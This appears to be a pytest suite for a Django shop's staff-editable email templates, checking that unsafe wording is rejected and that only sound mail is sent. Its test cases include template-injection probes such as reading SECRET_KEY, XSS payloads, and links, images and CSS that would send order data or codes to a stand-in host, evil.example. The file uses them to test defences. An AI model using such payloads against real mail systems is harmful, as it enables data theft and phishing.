"""Mails in the staff's own words: what is kept can be sent, and what cannot be sent is not kept."""

import re
from io import BytesIO

import pytest
from django.core import mail
from django.urls import reverse
from django.utils import translation
from PIL import Image

from apps.common.tests.staff import boss_client, page_answers, staff_client
from apps.inventory.tests.factories import StockItemFactory
from apps.notifications import services
from apps.notifications.exceptions import MailChanged, MailNotSound
from apps.notifications.models import MailStyle, MailWording, Message
from apps.notifications.rendering import mail_templates, render
from apps.notifications.samples import SAMPLES, states_of
from apps.notifications.tests.test_hostile_words import HOSTILE, assert_harmless, stored
from apps.notifications.wording import Wording, placeholders, problems
from apps.orders.models import Order, OrderLine
from apps.orders.tests.factories import ADDRESS
from apps.orders.tests.placing import place
from apps.outbox import services as outbox
from apps.stores.models import Store

SOUND = Wording(
    "{{ name }}: {{ order.number }}",
    '<p>Hi {{ name|default:"you" }}, {{ order.total|money }}</p>'
    "{% for line in order.lines %}<p><span>{{ forloop.counter }}</span> {{ line.name }}"
    "{% if line.options %}, {{ line.options }}{% endif %}</p>{% endfor %}"
    '<p><a class="button" href="{{ order.url }}">Look</a></p>{{ order_table }}{{ how_to_pay }}',
    "Hi {{ name }}\n{% if order.pay_by %}Pay by {{ order.pay_by|moment }}{% endif %}\n{{ order.url }}\n"
    "{{ order_table }}",
)


def wording(**changes):
    return Wording(**{"subject": SOUND.subject, "html": SOUND.html, "text": SOUND.text} | changes)


def test_every_mail_of_the_shop_has_its_samples():
    assert sorted(SAMPLES) == mail_templates()


@pytest.mark.parametrize("language", ["es", "en", "pt"])
def test_the_shops_own_mail_and_what_an_editor_begins_with_read_the_same_in_every_state(language):
    for template in mail_templates():
        assert problems(template, Wording()) == {}
        for state, context in states_of(template).items():
            own = render(template, language=language, context=context)
            edited = render(template, language=language, context=context, wording=Wording())
            assert (edited.subject, edited.text) == (own.subject, own.text), (template, state)
            assert edited.html.split() == own.html.split(), (template, state)


@pytest.mark.parametrize(
    ("field", "words", "complaint"),
    [
        ("html", "<p>{{ order.totl }}</p>", "There is no {{ order.totl }} in this mail. It has: "),
        ("subject", "{{ password }}", "There is no {{ password }}"),
        ("text", "{% if order.secret %}x{% endif %}", "There is no {{ order.secret }}"),
        ("text", "{{ name|default:settings.SECRET_KEY }}", "There is no {{ settings.SECRET_KEY }}"),
        ("text", "{{ order.total.rounded }}", "There is no {{ order.total.rounded }}"),
        ("text", "{{ name.upper }}", "There is no {{ name.upper }}"),
        ("text", "{{ order.lines.0.name }}", "There is no {{ order.lines.0.name }}"),
        ("text", "{{ order.__class__ }}", "may not begin with underscores"),
        ("text", "{% for line in order.lines %}{{ line.price }}{% endfor %}", "There is no {{ line.price }}"),
        ("text", "{{ order.lines }}", "is a list"),
        ("text", "{{ order }}", "has to be followed by one of number"),
        ("text", "{% for letter in name %}{{ letter }}{% endfor %}", "no list"),
        ("text", "{% load i18n %}", "'load'"),
        ("text", '{% include "admin/base.html" %}', "'include'"),
        ("text", "{% url 'admin:index' %}", "'url'"),
        ("text", "{% debug %}", "'debug'"),
        ("text", "{{ name|safe }}", "'safe'"),
        ("text", "{{ name|ljust:1000000 }}", "'ljust'"),
        ("text", "{% if name %}", "Unclosed tag"),
        ("text", "{{ name|money }}", "does a filter get what it is not for?"),
        ("text", " \n", "Say something."),
        ("text", "x" * 20_001, "longer than"),
        ("text", "{% if name %}" * 800 + "x" + "{% endif %}" * 800, "too deep"),
        ("text", "{% if " + "not " * 4000 + "name %}x{% endif %}", "too deep"),
        ("text", "{% for a in order.lines %}" * 3 + "x" + "{% endfor %}" * 3, "at most 2 loops"),
        ("text", "https://evil.example/?{{ name }}", "part of an address"),
        ("text", "{{ name }}.evil.example", "part of an address"),
        ("html", "<script>alert(1)</script>", "<script> cannot be used"),
        ("html", "<p onclick='x'>x</p>", "<p onclick> cannot be used"),
        ("html", '<a href="javascript:alert(1)">x</a>', "A link’s href is an address"),
        ("html", '<a href="https://evil.example/{{ name }}">x</a>', "A link’s href is an address"),
        ("html", '<a href="{{ name }}">x</a>', "A link’s href is an address"),
        ("html", "<a href={{ order.url }}>x</a>", "A link’s href is an address"),
        ("html", '<img src="https://evil.example/{{ order.number }}">', "A picture is an address"),
        ("html", '<p title="{{ name }}">x</p>', "<p title> cannot be used"),
        ("html", '<p class="{{ name }}">x</p>', "<p class> cannot be used"),
        ("html", "<{{ name }}>", "is written as &lt;"),
        ("html", "<!-- x -->", "is written as &lt;"),
        ("html", "<p>x", "<p> is not closed"),
        ("html", "</td></tr></table>", "closes what was not opened"),
        ("html", "{% if name %}<b>{% endif %}x{% if name %}</b>{% endif %}", "<b> is not closed"),
        ("html", "<a {% if name %}class='x'{% endif %}>x</a>", "cannot be used"),
        ("html", '<p style="background: url(https://evil.example)">x</p>', "fetch nothing"),
        ("html", "{{ original }}<p", "not finished"),
        ("html", """{{ "<img src='https://evil.example/?" }}{{ order.url }}{{ "'>" }}""", "write words as they are"),
        ("html", "{{ name|default:'<script>' }}", "adds has no <"),
        ("html", "{{ name|default:_('<script>') }}", "adds has no <"),
        ("text", "{{ 'https://evil.example/?' }}{{ order.url }}", "write words as they are"),
        ("text", "{{ name|default:order.url }}", "cannot take the place"),
        ("text", "{{ name|default:order }}", "cannot take the place"),
        ("text", "{% for one in 'abc' %}{{ one }}{% endfor %}", "no list"),
        ("text", "{% for one in ''|default:order.url %}{{ one }} {% endfor %}", "no list"),
        ("text", "{% if name %}https://evil.example/?{% endif %}{{ order.url }}", "stands by itself"),
        ("text", "{% if name %}{{ order.url }}{% endif %}", "stands by itself"),
        ("text", "evil.example/?{{ order.number }}", "part of an address"),
        ("text", "{% if name %}evil{% endif %}.example/?{{ order.number }}", "part of an address"),
        ("text", "{{ order.url|lower }}", "as it is, without filters"),
        ("subject", "{{ order.url }}", "A subject has no links and no codes"),
    ],
)
def test_what_cannot_be_sent_is_named_and_not_kept(field, words, complaint):
    with pytest.raises(MailNotSound) as refusal:
        services.require_sound("order_placed", "en", wording(**{field: words}))

    assert complaint.lower() in " ".join(refusal.value.errors[field if complaint[0] != "d" else "html"]).lower()


def test_a_mail_that_brings_a_link_or_code_cannot_lose_it():
    empty = Wording("Hello", "<p>{% if name %}{{ link }}{% endif %}</p>", "Hello {{ name }}")

    assert set(problems("reset_password", empty)) == {"html", "text"}
    assert problems("step_up_code", Wording("Code", "<p>{{ code }}</p>", "{{ original }}")) == {}


def test_a_code_stands_in_no_subject_and_in_no_address():
    leaky = Wording("{{ code }}", "{{ original }}", "{{ name|default:'https://evil.example/?' }}{{ code }} {{ code }}")

    assert set(problems("step_up_code", leaky)) == {"subject", "text"}


def test_placeholders_are_listed_for_whoever_writes():
    assert {"original", "order_table", "order.number", "order.lines", "order.transfer.amount"} <= set(
        placeholders("order_placed")
    )
    assert "order_table" not in placeholders("welcome")


pytestmark = pytest.mark.django_db


def keep(words=SOUND, after=0, template="order_placed"):
    return services.save_wording(template=template, language="en", wording=words, after=after, actor="staff:1")


@pytest.fixture
def order(settings):
    settings.STOREFRONT_URL, settings.SITE_URL = "https://shop.test", "https://api.test"
    return place(StockItemFactory(variant__product__name="RX-78-2"))


def test_customers_get_the_staffs_words_until_the_shops_own_are_brought_back(order):
    keep()

    outbox.drain()

    message = Message.objects.get(template="order_placed")
    assert message.subject == f"Ada Lovelace: {order.number}"
    assert "<span>1</span> RX-78-2" in message.html
    assert "Hi Ada Lovelace, US$13.60" in message.html
    assert 'href="https://shop.test/orders/' in message.html
    assert "sends you this mail because" in message.html  # the foot is the shop's
    assert re.search(r'<a class="button"[^>]*style="[^"]*background: #1f4b99', message.html)
    services.restore_original(template="order_placed", language="en", after=1, actor="staff:2")
    own = services.preview(template="order_placed", language="en", wording=None, state="paid")
    assert own.subject == "We have received your order ORD-100001"
    assert [one.version for one in MailWording.objects.order_by("pk")] == [1, 2]


def test_of_two_who_edit_the_same_version_one_hears_of_the_other():
    keep()

    with pytest.raises(MailChanged):
        keep(wording(subject="Mine"))
    assert keep(wording(subject="Mine"), after=1).version == 2


def test_words_that_fail_all_the_same_are_replaced_by_the_shops_own_and_staff_hear(order):
    Store.objects.update(email="staff@shop.test")
    MailWording.objects.create(
        template="order_placed",
        language="en",
        version=1,
        subject="x",
        html="{% load x %}",
        text="x",
        saved_by="staff:1",
    )

    outbox.drain()
    outbox.drain()

    assert Message.objects.get(template="order_placed").subject == f"We have received your order {order.number}"
    notice = Message.objects.get(template="staff_system_error")
    assert "TemplateSyntaxError at the mail order_placed (en), in your words" in notice.text


def test_a_notice_whose_own_words_fail_does_not_call_itself():
    for template in ("staff_system_error", "order_placed"):
        MailWording.objects.create(
            template=template, language="en", version=1, subject="x", html="{% x %}", text="x", saved_by="staff:1"
        )
    Store.objects.create(name="Shop", is_default=True, email="staff@shop.test")

    services.tell_of_error(where="here", error=KeyError("x"))
    outbox.drain()

    assert Message.objects.count() == 1


@pytest.mark.parametrize("words", [pytest.param(words, id=name) for name, words in HOSTILE.items()])
def test_hostile_words_do_nothing_in_the_staffs_mails_either(order, words):
    keep(wording(html=SOUND.html + "{{ order_address }}", text=SOUND.text + "{{ order_address }}"))
    Order.objects.update(shipping_address=dict.fromkeys(ADDRESS, stored(words)), email="a@b.test")
    OrderLine.objects.update(name=stored(words)[:200], options={stored(words): stored(words)})

    outbox.drain()

    [message], [sent] = Message.objects.all(), mail.outbox
    assert_harmless(message, sent)


def address(template="order_placed", language="en"):
    return reverse("admin:notifications_mailwording_edit", args=[template, language])


def send(client, do, words=SOUND, **changes):
    answers = page_answers(client, address())
    named = {"subject": words.subject, "html": words.html, "text": words.text, "state": "paid", "do": do}
    return client.post(address(), answers | named | changes, follow=True)


MAY = ["notifications.view_mailwording", "notifications.change_mailwording"]


def test_staff_look_try_keep_and_take_back():
    client = staff_client(*MAY)

    page = send(client, "preview").content.decode()
    assert page.count('sandbox="" srcdoc="&lt;!DOCTYPE html&gt;') == 2
    assert not MailWording.objects.exists()
    assert "version 1" in send(client, "save").content.decode()
    assert MailWording.objects.get().saved_by == f"staff:{client.user.pk}"
    assert "own words are back" in send(client, "original").content.decode()
    page = client.get(address(), {"version": 1}).content.decode()
    assert "staff@example.test" in page
    assert "{{ name }}: {{ order.number }}" in page


def test_a_test_mail_goes_to_whoever_asks_and_to_nobody_else():
    client = staff_client(*MAY)
    answers = page_answers(client, address())
    named = {"subject": SOUND.subject, "html": SOUND.html, "text": SOUND.text, "state": "paid", "do": "test"}

    for _ in range(2):  # a double click
        client.post(address(), answers | named | {"to": "all@evil.example", "recipient": "all@evil.example"})
    outbox.drain()

    [sent] = mail.outbox
    assert (sent.recipients(), sent.subject) == (["staff@example.test"], "Ana Pérez: ORD-100001")


def test_the_form_names_what_is_wrong_and_keeps_what_was_typed():
    page = send(staff_client(*MAY), "save", wording(html="<p>{{ order.totl }}</p>")).content.decode()

    assert "There is no {{ order.totl }} in this mail. It has: " in page
    assert "&lt;p&gt;{{ order.totl }}&lt;/p&gt;" in page
    assert not MailWording.objects.exists()


def test_whoever_may_only_look_changes_nothing_and_strangers_see_nothing():
    client = staff_client("notifications.view_mailwording")

    assert send(client, "preview").status_code == 200
    assert [send(client, do).status_code for do in ("save", "test", "original")] == [403] * 3
    assert staff_client(email="other@example.test").get(address()).status_code == 403
    assert client.get(address("nothing")).status_code == 404
    assert not MailWording.objects.exists()


def test_the_list_asks_few_questions_however_many_versions_there_are(django_assert_max_num_queries):
    for after in range(5):
        keep(after=after)
    client = boss_client()

    with django_assert_max_num_queries(7):
        page = client.get(reverse("admin:notifications_mailwording_changelist")).content.decode()

    assert "version 5" in page
    assert page.count(reverse("admin:notifications_mailwording_edit", args=["welcome", "pt"])) == 1


def test_all_mails_look_as_the_style_says(order):
    MailStyle.objects.create(accent="#aa0011", footer_en="RIF J-1 <b>", logo="mail/logo.png")

    outbox.drain()

    message = Message.objects.get(template="order_placed")
    assert "#aa0011" in message.html
    assert 'src="https://api.test/media/mail/logo.png"' in message.html
    assert "RIF J-1 &lt;b&gt;<br>" in message.html
    assert "\nRIF J-1 <b>\n" in message.text


def test_a_colour_is_a_colour_and_a_logo_a_picture():
    client, add = boss_client(), reverse("admin:notifications_mailstyle_add")
    broken = {"accent": "red;}", "background": "#ffffff", "logo": BytesIO(b"GIF89a")}

    page = client.post(add, broken).content.decode()

    assert "Write a colour as #1f4b99." in page
    assert not MailStyle.objects.exists()


def test_a_logo_is_drawn_anew_as_png(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    picture = BytesIO()
    Image.new("RGB", (900, 100)).save(picture, "JPEG")
    picture.seek(0)
    picture.name = "my logo.jpg"
    sent = {"accent": "#000000", "background": "#ffffff", "logo": picture}

    boss_client().post(reverse("admin:notifications_mailstyle_add"), sent)

    [file] = (tmp_path / "mail").iterdir()
    assert MailStyle.objects.get().logo.name == f"mail/{file.name}"
    with Image.open(file) as logo:
        assert (file.suffix, logo.format, logo.width) == (".png", "PNG", 600)


def test_there_is_one_style():
    client, add = boss_client(), reverse("admin:notifications_mailstyle_add")
    style = MailStyle.objects.create()

    assert client.get(add).url == reverse("admin:notifications_mailstyle_change", args=[style.pk])
    page = client.post(add, {"accent": "#000000", "background": "#ffffff"}).content.decode()

    assert "There is one already" in page
    assert MailStyle.objects.get() == style


def test_words_are_written_in_the_language_of_the_mail():
    words = Wording("x", "<p>{{ order.total|money }}</p>", "{{ order.total|money }}")
    with translation.override("en"):
        shown = services.preview(template="order_placed", language="es", wording=words, state="paid")

    assert "60,00\u00a0US$" in shown.text
